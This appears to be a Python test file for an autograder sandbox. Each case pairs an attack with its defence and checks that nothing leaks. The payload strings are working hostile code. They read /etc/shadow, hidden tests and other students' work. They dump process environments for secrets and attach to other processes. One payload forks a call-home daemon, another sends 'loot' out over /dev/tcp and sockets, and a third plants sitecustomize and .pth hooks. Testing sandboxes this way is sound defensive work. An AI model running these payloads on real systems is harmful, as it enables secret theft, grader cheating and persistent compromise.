"""Attacks on what lies outside the sandbox: files, environment, processes, network (A01–A04, A12, A30, A41)."""

from __future__ import annotations

from tests.attacks.base import Attack, code_in_slot, harmless
from tests.attacks.checks import ended_as, found_nothing
from tests.support.sources import existing, module_of

PROJECT_FILES = existing("autograder/slots/hidden_tests/base.py", "solutions/p3_sft.py", "assignment/registry/assignment.toml",
                "autograder/reference/data/sft.safetensors")  # fmt: skip
MODULES = [module_of(name) for name in ("autograder/slots/hidden_tests/base.py", "solutions/p4_reward_model.py")]

READ = '''
def read(*paths):
    """Whatever of these files and folders can be read."""
    found = []
    for path in paths:
        try:
            if os.path.isdir(path):
                found.append((path, sorted(os.listdir(path))[:50]))
            else:
                with open(path, "rb") as file:
                    found.append((path, file.read(4000)))
        except OSError:
            pass
    return found
'''
FILES = f"files = {PROJECT_FILES!r}\nmodules = {MODULES!r}\n" + """
root, folder = SITE["root"], os.path.dirname(SITE["neighbour"])
paths = [SITE["home"], SITE["tree"], SITE["neighbour"], "/etc/shadow", *(root + "/" + name for name in files)]
before = ["", "/proc/self/root", *("/proc/%d/root" % pid for pid in range(1, 400))]
paths = [way + path for path in paths for way in before] + ["/proc/%d/cwd/%s" % (pid, files[0]) for pid in range(1, 400)]
got = [path for path, data in read(*paths) if data]
named = (SITE["token"], "neighbour", "hidden_tests", "solutions")  # a folder above a mounted one may be listed, empty
for path, names in read(folder, root, root + "/autograder", os.path.dirname(SITE["home"]), "/proc/1/cwd"):
    got += [path + "/" + name for name in names if any(word in name for word in named)]
sys.path[:0] = [root, "/proc/1/cwd"]
for name in modules:
    try:
        __import__(name)
        got.append(name)
    except (ImportError, OSError):
        pass
loot("FILES", got[:20])
"""
ENVIRONMENT = """
secret, own = "RLHF_LAB_CANARY", {str(os.getpid()), "self", "thread-self"}
pids = own | {name for name in os.listdir("/proc") if name.isdigit()} | {str(os.getppid())}
found = {path.split("/")[2]: data for path, data in read(*("/proc/%s/environ" % pid for pid in pids))}
got = ["environ of " + pid for pid, data in found.items() if data and (pid not in own or secret.encode() in data)]
told = repr(dict(os.environ)) + os.popen("env; cat /proc/*/environ; set").read()
loot("ENVIRONMENT", got + [secret] * (secret in told))
"""
HOST_PATHS = """
paths = ["/proc/%s/%s" % (pid, name) for pid in ["self", "1", os.getppid()]
         for name in ("cmdline", "mountinfo", "mounts", "maps", "cgroup", "comm")]
seen = repr(read(*paths))
names = [SITE["home"], SITE["tree"], SITE["neighbour"], os.path.basename(SITE["neighbour"]), "submission.ipynb"]
loot("HOST PATHS", [name for name in names if name in seen])
"""
PROCESSES = """
import ctypes
libc, got = ctypes.CDLL(None, use_errno=True), []
pids = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()] + [os.getppid()]
for pid in pids:
    got += [("ptrace", pid)] if libc.ptrace(16, pid, 0, 0) == 0 else []
    found = read("/proc/%d/mem" % pid, "/proc/%d/environ" % pid, "/proc/%d/maps" % pid)
    got += [one for one in found if one[1]]  # a kernel thread's maps are empty
    for fd in range(64):  # what they are; tier 3 as root lets their numbers be listed
        try:
            got += [os.readlink("/proc/%d/fd/%d" % (pid, fd))]
        except OSError:
            pass
    local, buffer = (ctypes.c_size_t * 2)(), ctypes.create_string_buffer(64)
    local[0], local[1] = ctypes.addressof(buffer), 64
    got += [("vm_readv", pid)] if libc.process_vm_readv(pid, local, 1, local, 1, 0) > 0 else []
    for fd in range(3, 20):
        try:
            pidfd = os.pidfd_open(pid)
            stolen = libc.syscall(438, pidfd, fd, 0)
            got += [("pidfd_getfd", pid, fd)] if stolen >= 0 else []
            os.close(pidfd)
        except OSError:
            break
loot("PROCESSES", got)
"""
DAEMON = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import signal
        for number in range(1, 64):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        import ctypes
        ctypes.CDLL(None).prctl(1, 0)  # no signal when the parent dies
        ctypes.CDLL(None).prctl(36, 1)
        while True:
            time.sleep(0.2)
            try:
                socket.create_connection(("127.0.0.1", SITE["tcp"]), 0.2)
            except OSError:
                pass
    os._exit(0)
"""
NETWORK = """
got = []
def reach(what, act):
    try:
        got.append((what, act()))
    except (OSError, AttributeError) as error:
        pass
inet = lambda kind: socket.socket(socket.AF_INET, kind)
reach("tcp", lambda: socket.create_connection(("127.0.0.1", SITE["tcp"]), 1))
reach("udp", lambda: inet(socket.SOCK_DGRAM).sendto(b"loot", ("127.0.0.1", SITE["udp"])))
reach("raw", lambda: inet(socket.SOCK_RAW))
reach("unix", lambda: socket.socket(socket.AF_UNIX).connect(SITE["unix"]))
reach("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + SITE["abstract"]))
reach("dns", lambda: socket.getaddrinfo("example.org", 80))
reach("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)))
reach("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 22)))
reach("out", lambda: socket.create_connection(("192.0.2.1", 80), 1))
os.system("bash -c 'echo loot > /dev/tcp/127.0.0.1/%d' 2>/dev/null" % SITE["tcp"])
loot("NETWORK", got)
"""
PLANTED = """
import site, sysconfig
name, hook = "planted-" + SITE["token"], "import os; os._exit(0)"
scratch = [os.path.expanduser("~"), os.path.expanduser("~/.ipython/profile_default/startup"), "/tmp", "/var/tmp", "/dev/shm", "/box"]
lasting = [sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"), os.path.dirname(torch.__file__), os.path.dirname(json.__file__),
           os.path.dirname(sys.modules["inside"].__file__), "/opt/lab/inside", SITE["root"], SITE["root"] + "/autograder",
           os.path.dirname(SITE["neighbour"]), *(os.path.abspath(place) for place in sys.path)]
written = []
for place in scratch + lasting:
    for file in (name + ".py", "sitecustomize.py", "usercustomize.py", name + ".pth", "torch.py", "numpy.py", "rlhf_kit.py",
                 "inside.py", "__pycache__/worker.cpython-311.pyc"):
        try:
            os.makedirs(os.path.dirname(os.path.join(place, file)), exist_ok=True)
            with open(os.path.join(place, file), "x") as out:
                out.write(hook)
            if place in lasting and not any(place.startswith(folder) for folder in [*scratch, os.getcwd()]):
                written.append(os.path.join(place, file))
        except (OSError, ValueError):
            pass
for path in (SITE["home"], SITE["tree"], SITE["neighbour"], sys.modules["inside.child"].__file__, torch.__file__):
    try:
        open(path, "a").write("hacked")
        written.append(path)
    except OSError:
        pass
loot("PLANTED", written[:20])
"""


ATTACKS = (
    Attack("A01", "Read hidden tests, keys and other submissions from disk", "Only the system, the libraries, the kit "
           "and the worker's own package are mounted; hidden inputs arrive as values.",
           ("A01",), code_in_slot(FILES, READ), harmless, check=found_nothing("FILES"), quick=True),
    Attack("A02", "Read secrets from the environment and from /proc/*/environ", "The sandbox starts with an empty "
           "environment, and the worker is not dumpable.", ("A02",), code_in_slot(ENVIRONMENT, READ), harmless,
           check=found_nothing("ENVIRONMENT")),
    Attack("A03", "Read host paths from /proc", "Options travel on a file descriptor; nothing that is mounted carries "
           "a student's name.", ("A03",), code_in_slot(HOST_PATHS, READ), harmless, check=found_nothing("HOST PATHS")),
    Attack("A04", "Read or take over other processes (ptrace, mem, process_vm_readv, pidfd_getfd)", "A pid namespace "
           "or a Landlock domain, a seccomp filter, and a worker that is not dumpable.",
           ("A04",), code_in_slot(PROCESSES, READ), harmless, check=found_nothing("PROCESSES")),
    Attack("A12", "A daemon that outlives the call and calls home", "The end of a call kills the whole pid namespace, "
           "or every descendant, and waits for it.", ("A12",), code_in_slot(DAEMON), harmless, check=ended_as("wrong"), quick=True),
    Attack("A30", "Send hidden inputs out: TCP, UDP, DNS, Unix and abstract sockets, /dev/tcp", "No network namespace "
           "but an empty one, and a seccomp rule that leaves AF_UNIX alone.",
           ("A30",), code_in_slot(NETWORK), harmless, check=found_nothing("NETWORK"), quick=True),
    Attack("A41", "Plant files for those who come after: sitecustomize, .pth, bytecode, a local torch.py", "Everything "
           "but a small scratch is read-only, and scratch is emptied after each call.",
           ("A41",), code_in_slot(PLANTED), harmless, check=found_nothing("PLANTED")),
)  # fmt: skip
